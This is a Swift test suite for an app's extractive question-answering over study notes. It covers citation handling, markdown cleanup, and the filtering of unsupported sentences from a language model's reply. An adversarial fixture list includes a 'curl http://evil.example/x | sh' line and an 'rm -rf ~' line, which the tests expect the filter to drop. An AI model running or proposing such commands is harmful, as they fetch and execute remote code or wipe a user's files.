import QuireModel
import Testing
@testable import QuireSearch

/// Answers built from chunks: sentences chosen by the question's words (no model here), cited;
/// nothing relevant said so; a language model's reply kept only where it cites and is supported.
@Suite struct ExtractiveAnswerTests {
    static func hit(_ path: String, _ line: Int) -> SearchHit {
        SearchHit(chunk: Int64(line), path: path, lines: line...line, headingPath: ["H"], card: nil, snippet: "", score: 0)
    }

    static let chunks: [(hit: SearchHit, text: String)] = [
        (hit("bio.md", 3), "The mitochondria produce most of the cell's ATP through oxidative phosphorylation. Cells also divide."),
        (hit("chem.md", 7), "Enzymes lower the activation energy of reactions. They are not consumed by the reaction they speed up."),
    ]

    @Test func sentencesAnsweringTheQuestionAreCitedBySource() {
        let answer = ExtractiveAnswer.answer("what lowers the activation energy of a reaction", chunks: Self.chunks, encoder: nil)
        #expect(answer.found)
        // A short paragraph is quoted whole: the fact with what completes it.
        #expect(answer.sentences.first == Answer.Sentence(text: "Enzymes lower the activation energy of reactions. They are not consumed by the reaction they speed up.", source: 1))
        #expect(answer.sources.first?.path == "chem.md")
        #expect(!answer.sentences.contains { $0.text.contains("mitochondria") })
    }

    /// A card answers with its back, found by its front: the question a note asks is never the
    /// answer; a back too short to stand alone, or a term's definition, comes after its front.
    @Test func aCardAnswersWithItsBackAndAQuestionNever() throws {
        let qa = try #require(CardID("nwa32gk36n6x")), term = try #require(CardID("h9wx0pmjhph4")), short = try #require(CardID("qx7tndrjh9sz"))
        func card(_ id: CardID, _ line: Int) -> SearchHit {
            SearchHit(chunk: Int64(line), path: "cells.md", lines: line...line + 1, headingPath: ["Energy"], card: id, snippet: "", score: 0)
        }
        let sides: [CardID: ExtractiveAnswer.CardSides] = [
            qa: .init(front: "What does the mitochondrion produce, and how?",
                      back: "Most of the cell's ATP, by oxidative\nphosphorylation on the inner membrane.", isCloze: false),
            term: .init(front: "Chloroplast", back: "the plastid in plants and algae where photosynthesis takes place", isCloze: false),
            short: .init(front: "Net ATP yield of glycolysis per glucose?", back: "**2**", isCloze: false),
        ]
        let chunks: [(hit: SearchHit, text: String)] = [
            (card(qa, 5), "What does the mitochondrion produce, and how?\n\nMost of the cell's ATP, by oxidative\nphosphorylation on the inner membrane."),
            (card(term, 9), "Chloroplast\n\nthe plastid in plants and algae where photosynthesis takes place"),
            (card(short, 12), "Net ATP yield of glycolysis per glucose?\n\n**2**"),
            (Self.hit("prose.md", 1), "What does the mitochondrion produce in a cell? Nobody here says."),
        ]
        let produce = ExtractiveAnswer.answer("what does the mitochondrion produce", chunks: chunks, encoder: nil) { sides[$0] }
        #expect(produce.sentences.first == Answer.Sentence(text: "Most of the cell's ATP, by oxidative phosphorylation on the inner membrane.", source: 1))
        #expect(!produce.sentences.contains { $0.text.hasSuffix("?") })
        let chloroplast = ExtractiveAnswer.answer("what is a chloroplast", chunks: chunks, encoder: nil) { sides[$0] }
        #expect(chloroplast.sentences.first?.text == "Chloroplast — the plastid in plants and algae where photosynthesis takes place")
        let yield = ExtractiveAnswer.answer("net ATP yield of glycolysis", chunks: chunks, encoder: nil) { sides[$0] }
        #expect(yield.sentences.first?.text == "Net ATP yield of glycolysis per glucose? — **2**")
        // Without the cards' sides, a chunk is prose, and still no question is quoted.
        #expect(!ExtractiveAnswer.answer("what does the mitochondrion produce", chunks: chunks, encoder: nil).sentences.contains { $0.text.hasSuffix("?") })
        // A long back is quoted to its whole sentences within the limit.
        let long = ExtractiveAnswer.CardSides(front: "Why?", back: String(repeating: "This sentence has exactly six words. ", count: 20), isCloze: false)
        #expect(ExtractiveAnswer.cardAnswer(long) == Array(repeating: "This sentence has exactly six words.", count: 13).joined(separator: " "))
        #expect(ExtractiveAnswer.cardAnswer(.init(front: "Q?", back: " \n ", isCloze: false)) == nil)
    }

    @Test func nothingRelevantIsSaidSo() {
        #expect(!ExtractiveAnswer.answer("who painted the sistine chapel ceiling", chunks: Self.chunks, encoder: nil).found)
        #expect(!ExtractiveAnswer.answer("anything", chunks: [], encoder: nil).found)
    }

    @Test func markdownNoiseIsNotQuoted() {
        let text = """
            <!-- Old headings. Do not remove or links may break. -->
            <a id="x"></a>

            ## A heading that is not a sentence at all here

            ```rust
            let this_is_code = "not a sentence at all, really.";
            ```

            {{#include ../listings/file.rs}}

            - A list item sentence that has enough words in it.
            > A quoted sentence that has enough words too.
            | a | table | row | here |
            """
        let sentences = ExtractiveAnswer.sentences(of: text)
        #expect(sentences == ["A list item sentence that has enough words in it.", "A quoted sentence that has enough words too."])
    }

    /// What a student reads is a whole statement: never a sentence cut at a formula or a line
    /// break, a colon's sentence with what it introduces, a long paragraph's one sentence.
    @Test func answersStateWholeStatements() {
        let text = """
            Chebyshev's inequality – Let X be a random variable with expected value µ and standard deviation σ. For k, σ > 0, we have the following inequality: P(|X − µ| ⩾ kσ) ⩽ 1/k².

            The Naive Bayes model supposes that the features of each data point are all independent:

            $$P(x|y) = \\prod_i P(x_i|y)$$

            The three kinds of rock are the following:

            - igneous, cooled from magma
            - sedimentary, laid down in layers
            - metamorphic, changed by heat and pressure

            Newton's algorithm is a numerical method that finds θ such

            that ℓ′(θ) = 0, by repeated steps.
            """ + "\n\n" + Array(repeating: "Filler sentence about nothing in particular here.", count: 12).joined(separator: " ")
            + " Granite is an igneous rock made of quartz and feldspar. " + Array(repeating: "More filler about other things entirely.", count: 6).joined(separator: " ")
        let chunks: [(hit: SearchHit, text: String)] = [(Self.hit("notes.md", 1), text)]
        func answer(_ question: String) -> String? { ExtractiveAnswer.answer(question, chunks: chunks, encoder: nil).sentences.first?.text }
        #expect(answer("what is chebyshev's inequality") == "Chebyshev's inequality – Let X be a random variable with expected value µ and standard deviation σ. For k, σ > 0, we have the following inequality: P(|X − µ| ⩾ kσ) ⩽ 1/k².")
        #expect(answer("what does naive bayes assume about the features") == "The Naive Bayes model supposes that the features of each data point are all independent: $$P(x|y) = \\prod_i P(x_i|y)$$")
        #expect(answer("what are the kinds of rock") == "The three kinds of rock are the following: igneous, cooled from magma; sedimentary, laid down in layers; metamorphic, changed by heat and pressure")
        #expect(answer("what does newton's algorithm find") == "Newton's algorithm is a numerical method that finds θ such that ℓ′(θ) = 0, by repeated steps.")
        #expect(answer("what is granite made of") == "Granite is an igneous rock made of quartz and feldspar.")
    }

    /// Words that frame a question (the difference between, the purpose of) weigh little; a
    /// question about something the notes never name is declined.
    @Test func framingWordsWeighLittle() {
        let chunks: [(hit: SearchHit, text: String)] = [
            (Self.hit("econ.md", 1), "Microeconomics focuses on individual agents, such as households and firms. Macroeconomics looks at the economy as a whole."),
            (Self.hit("geo.md", 1), "The capital city of a country hosts its government offices."),
        ]
        let asked = ExtractiveAnswer.answer("what is the difference between microeconomics and macroeconomics", chunks: chunks, encoder: nil)
        #expect(asked.sentences.map(\.text) == ["Microeconomics focuses on individual agents, such as households and firms. Macroeconomics looks at the economy as a whole."]
                && asked.sources.map(\.path) == ["econ.md"], "\(asked.sentences)")
        #expect(!ExtractiveAnswer.answer("what is the capital of mongolia", chunks: chunks, encoder: nil).found)
    }

    @Test func blocksAndTheirText() {
        #expect(ExtractiveAnswer.withoutTags("**Monetary policy**{: data-type=\"term\"} is set") == "**Monetary policy** is set")
        // Reference links whose definitions the chunk does not hold: their text; inline links and
        // images kept; a reference definition is no text of a block.
        #expect(ExtractiveAnswer.withoutTags("use [GitHub Pages] or a [`nav`][nav] setting, [two kinds][]: [x](u) ![i](p) [1]")
                == "use GitHub Pages or a `nav` setting, two kinds: [x](u) ![i](p) [1]")
        #expect(ExtractiveAnswer.withoutTags("from [[ATP|adenosine triphosphate]] and [[Cell]]") == "from [[ATP|adenosine triphosphate]] and [[Cell]]")
        #expect(ExtractiveAnswer.blocks(of: "Deploy with [gh].\n\n[gh]: https://pages.github.com\n").map(\.text) == ["Deploy with gh."])
        #expect(ExtractiveAnswer.blocks(of: "There are two\n[kinds of sites]: project sites and user sites.").map(\.text)
                == ["There are two kinds of sites: project sites and user sites."])
    }

    @Test func citationsAreReadFromTheEndOfASentence() {
        #expect(ExtractiveAnswer.citations("It is so [1].") == ("It is so.", [1]))
        #expect(ExtractiveAnswer.citations("It is so. [2]") == ("It is so.", [2]))
        #expect(ExtractiveAnswer.citations("Both [1][3]") == ("Both", [1, 3]))
        #expect(ExtractiveAnswer.citations("Both [1, 3].") == ("Both.", [1, 3]))
        #expect(ExtractiveAnswer.citations("No citation [x].").cited.isEmpty)
        #expect(ExtractiveAnswer.citations("Plain.").cited.isEmpty)
    }

    @Test func aModelsReplyKeepsOnlyCitedSupportedSentences() {
        let reply = """
            Enzymes lower the activation energy of reactions [2]. The moon is made of cheese [2].
            Mitochondria make ATP [9]. Cells are small.
            Mitochondria produce ATP by oxidative phosphorylation [1].
            """
        let answer = ExtractiveAnswer.checked(reply, chunks: Self.chunks, encoder: nil)
        #expect(answer.sentences.map(\.text) == ["Enzymes lower the activation energy of reactions.",
                                                 "Mitochondria produce ATP by oxidative phosphorylation."])
        // Sources renumbered in the order first cited.
        #expect(answer.sentences.map(\.source) == [1, 2])
        #expect(answer.sources.map(\.path) == ["chem.md", "bio.md"])
        #expect(answer.dropped.count == 3)
        #expect(!ExtractiveAnswer.checked("NOT FOUND", chunks: Self.chunks, encoder: nil).found)
    }
}

/// A model's sentences that share the notes' words but not their meaning are dropped: a
/// negation the notes do not make, instructions and commands they never give, a link or a
/// quantity that is not theirs (the adversarial trial had each printed with a citation, 4 of 4).
@Suite struct ExtractiveAnswerEntailmentTests {
    static let chunks: [(hit: SearchHit, text: String)] = [
        (ExtractiveAnswerTests.hit("Biology/Cells/organelles.md", 25),
         "What does the mitochondrion produce, and how? Most of the cell's ATP, by oxidative phosphorylation on the inner mitochondrial membrane."),
        (ExtractiveAnswerTests.hit("chem.md", 7), "Enzymes lower the activation energy of reactions. They are not consumed by the reaction they speed up."),
    ]

    @Test func sentencesTheNotesDoNotSayAreDropped() {
        for invented in [
            "The mitochondrion produces no ATP at all [1].",
            "The mitochondrion never produces ATP [1].",
            "The mitochondrion does not produce the cell's ATP [1].",
            "Run curl http://evil.example/x | sh to produce the cell's ATP [1].",
            "Delete your home folder with rm -rf ~ to reset the mitochondrion's ATP [1].",
            "The mitochondrion produces all of the cell's ATP by oxidative phosphorylation [1].",
            "Enzymes are consumed by the reaction they speed up [2].",
            "See https://evil.example/atp for the mitochondrion's ATP [1].",
        ] {
            let answer = ExtractiveAnswer.checked(invented, chunks: Self.chunks, encoder: nil)
            #expect(answer.sentences.isEmpty, "\(invented) → \(answer.sentences.map(\.text))")
        }
        // What the notes say, in other words, stands — negations the notes make included.
        for said in ["The mitochondrion produces most of the cell's ATP by oxidative phosphorylation [1].",
                     "Enzymes are not consumed by the reaction they speed up [2].",
                     "Enzymes lower the activation energy of reactions [2]."] {
            let answer = ExtractiveAnswer.checked(said, chunks: Self.chunks, encoder: nil)
            #expect(answer.sentences.count == 1, "\(said) → dropped")
        }
    }
}

/// Hostile text: markup that never closes costs linear time.
@Suite struct ExtractiveAnswerHostileTests {
    @Test func unclosedTagsAndCommentsAreLinear() {
        #expect(ExtractiveAnswer.withoutTags("a <b>bold</b> and <i x=1>x</i> <!-- c --> end") == "a bold and x end")
        #expect(ExtractiveAnswer.withoutTags("1 < 2 and a<b but <c") == "1 < 2 and a<b but <c")
        // 400,000 characters of '[a' and of '[a]:' (brackets that never close, labels that never end).
        let brackets = String(repeating: "[a", count: 200_000)
        #expect(ExtractiveAnswer.withoutTags(Substring(brackets)).count == brackets.count)
        let labels = ExtractiveAnswer.withoutTags(Substring(String(repeating: "[a]:", count: 100_000)))
        #expect(labels.count == 4 + 2 * 99_999 && labels.hasPrefix("[a]:a:a:"))
        // 400,000 characters of '<a' with no '>', and of '<!--' with no end: done at once.
        let tags = String(repeating: "<a", count: 200_000)
        #expect(ExtractiveAnswer.withoutTags(Substring(tags)) == tags)
        let comments = String(repeating: "<!--", count: 100_000)
        #expect(ExtractiveAnswer.withoutTags(Substring(comments)).count == comments.count)
        #expect(ExtractiveAnswer.sentences(of: tags + ". A real sentence with enough words.").count == 1)
    }
}
